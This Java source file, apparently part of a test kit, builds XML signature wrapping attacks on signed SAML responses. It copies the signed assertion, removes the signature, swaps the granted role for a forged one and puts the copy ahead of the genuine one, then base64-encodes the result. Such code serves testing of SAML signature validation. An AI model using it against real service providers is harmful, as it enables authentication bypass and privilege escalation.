package dev.keyport.testkit;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.OutputKeys;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import java.io.ByteArrayInputStream;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.function.Consumer;

/**
 * XML signature wrapping, as an attacker does it to a genuine signed SAMLResponse: the pieces to move around (the
 * signed assertion, a forged copy that grants another role), and the result as the base64 an IdP would post.
 */
public record XswAttack(Document doc, String grantedRole, String forgedRole) {
    public static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
    public static final String SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
    public static final String DSIG = "http://www.w3.org/2000/09/xmldsig#";

    /** {@code genuineXml} changed by {@code attack}, as base64. */
    public static String apply(String genuineXml, String grantedRole, String forgedRole, Consumer<XswAttack> attack) {
        try {
            DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
            f.setNamespaceAware(true);
            Document doc = f.newDocumentBuilder().parse(new ByteArrayInputStream(
                    genuineXml.getBytes(StandardCharsets.UTF_8)));
            attack.accept(new XswAttack(doc, grantedRole, forgedRole));
            StringWriter out = new StringWriter();
            var t = TransformerFactory.newInstance().newTransformer();
            t.setOutputProperty(OutputKeys.OMIT_XML_DECLARATION, "yes");
            t.transform(new DOMSource(doc), new StreamResult(out));
            return Base64.getEncoder().encodeToString(out.toString().getBytes(StandardCharsets.UTF_8));
        } catch (Exception e) {
            throw new IllegalStateException("could not build the attack", e);
        }
    }

    /** The classic form: a forged assertion before the signed one. */
    public static String forgedBefore(String genuineXml, String grantedRole, String forgedRole) {
        return apply(genuineXml, grantedRole, forgedRole,
                a -> a.response().insertBefore(a.forged(false), a.signedAssertion()));
    }

    public Element response() {
        return doc.getDocumentElement();
    }

    public Element signedAssertion() {
        return (Element) doc.getElementsByTagNameNS(SAML, "Assertion").item(0);
    }

    /** A copy of the signed assertion, its signature removed, granting the forged role (with its own ID or not). */
    public Element forged(boolean keepId) {
        Element copy = (Element) signedAssertion().cloneNode(true);
        Node signature = copy.getElementsByTagNameNS(DSIG, "Signature").item(0);
        signature.getParentNode().removeChild(signature);
        if (!keepId) {
            copy.setAttribute("ID", "_forged");
        }
        var values = copy.getElementsByTagNameNS(SAML, "AttributeValue");
        for (int i = 0; i < values.getLength(); i++) {
            Element v = (Element) values.item(i);
            if (v.getTextContent().contains(grantedRole)) {
                v.setTextContent(v.getTextContent().replace(grantedRole, forgedRole));
            }
        }
        return copy;
    }
}
